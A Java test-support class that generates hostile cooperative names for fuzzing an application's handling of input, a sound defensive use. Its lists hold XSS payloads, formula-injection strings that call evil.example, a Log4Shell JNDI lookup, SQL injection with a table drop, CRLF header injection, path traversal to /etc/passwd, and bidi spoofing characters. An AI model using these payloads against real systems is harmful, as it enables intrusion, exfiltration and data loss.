package coop.docket.doors;

import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/** Names that somebody may give a cooperative to see what becomes of them. */
final class HostileNames {
    private static final List<String> SCRIPTS = List.of(
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/a.js></sCrIpT>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg><animate onbegin=alert(1) attributeName=x>",
            "<body onload=alert(1)>",
            "<iframe srcdoc='<script>alert(1)</script>'>",
            "<a href=javascript:alert(1)>x</a>",
            "<details open ontoggle=alert(1)>",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "</style><script>alert(1)</script>",
            "--><script>alert(1)</script><!--",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<<script>script>alert(1)<</script>/script>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<base href=//evil.example/>",
            "<link rel=stylesheet href=//evil.example/a.css>",
            "<form action=//evil.example><button>Đăng nhập</button></form>");

    private static final List<String> ATTRIBUTES = List.of(
            "\" onmouseover=\"alert(1)",
            "' onmouseover='alert(1)",
            "\"><script>alert(1)</script>",
            "'><script>alert(1)</script>",
            "\" autofocus onfocus=alert(1) x=\"",
            "` onmouseover=alert(1)",
            "\" style=\"position:fixed;inset:0",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;",
            "&quot;&gt;");

    private static final List<String> FORMULAS = List.of(
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example\",\"Xem\")",
            "=WEBSERVICE(\"http://evil.example\")",
            "=IMPORTXML(\"http://evil.example\",\"//a\")",
            "+1+1",
            "-1+1",
            "@SUM(1+1)",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "\t=1+1",
            "\r=1+1",
            "\"=1+1\"",
            "';=1+1",
            "a;=1+1",
            "a,=1+1",
            "a\n=1+1");

    private static final List<String> DIRECTIONS = List.of(
            "\u202Egnp.exe",
            "\u202Dabc\u202C",
            "\u2066abc\u2069",
            "\u2067abc",
            "\u2068abc",
            "abc\u200Fdef",
            "abc\u200Edef",
            "\u061Cabc",
            "\u202A\u202B\u202E\u2066",
            "a\u2060b\u2063c",
            "שלום (123) עולם",
            "تعاونية 12-34 الزراعة",
            "א1ב2ג3",
            "ܐܒܓ (x)");

    private static final List<String> LANGUAGES = List.of(
            "${7*7}",
            "#{7*7}",
            "{{7*7}}",
            "{0} {1}",
            "'{0}'",
            "%s %n %d",
            "@{x}",
            "!{var x = 1}",
            "@if(true)",
            "${jndi:ldap://evil.example/a}",
            "#{T(java.lang.Runtime).getRuntime()}",
            "' or '1'='1",
            "'; drop table cooperative; --",
            "\\u003cscript\\u003e",
            "\\",
            "\\\" , \\",
            "null",
            "undefined",
            "true",
            "\u001B[31mđỏ\u001B[0m",
            "\u009B31mđỏ",
            "a\u0007b\u0008c",
            "\r\nSet-Cookie: a=b",
            "../../etc/passwd",
            "con.xlsx",
            "🐄🌾👨‍👩‍👧",
            "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
            "ﷺ﷽",
            "𝐇𝐓𝐗");

    private HostileNames() {}

    /** So many, no two the same, of every family. */
    static List<String> some(int count, long seed) {
        var dice = new Random(seed);
        var families = List.of(SCRIPTS, ATTRIBUTES, FORMULAS, DIRECTIONS, LANGUAGES);
        var all = new ArrayList<>(families.stream().flatMap(List::stream).toList());
        Collections.shuffle(all, dice);
        var names = new LinkedHashSet<String>();
        // one of each family first, so that a short sample has them all
        families.forEach(family -> names.add(family.get(dice.nextInt(family.size()))));
        names.add("W".repeat(300));
        names.addAll(all);
        while (names.size() < count) {
            var one = all.get(dice.nextInt(all.size()));
            var other = all.get(dice.nextInt(all.size()));
            names.add(
                    switch (dice.nextInt(3)) {
                        case 0 -> one + other;
                        case 1 -> (one + " ").repeat(300 / (one.length() + 1) + 1);
                        default -> one + "Ệ".repeat(Math.max(1, 300 - one.length()));
                    });
        }
        return names.stream().limit(count).toList();
    }

    /** Whatever steers a terminal or the direction of writing. */
    static Stream<String> steering() {
        return Stream.of(
                "\u202A", "\u202B", "\u202C", "\u202D", "\u202E", "\u2066", "\u2067", "\u2068", "\u2069", "\u200E",
                "\u200F", "\u061C", "\u001B", "\u009B", "\u0007", "\u0000");
    }
}
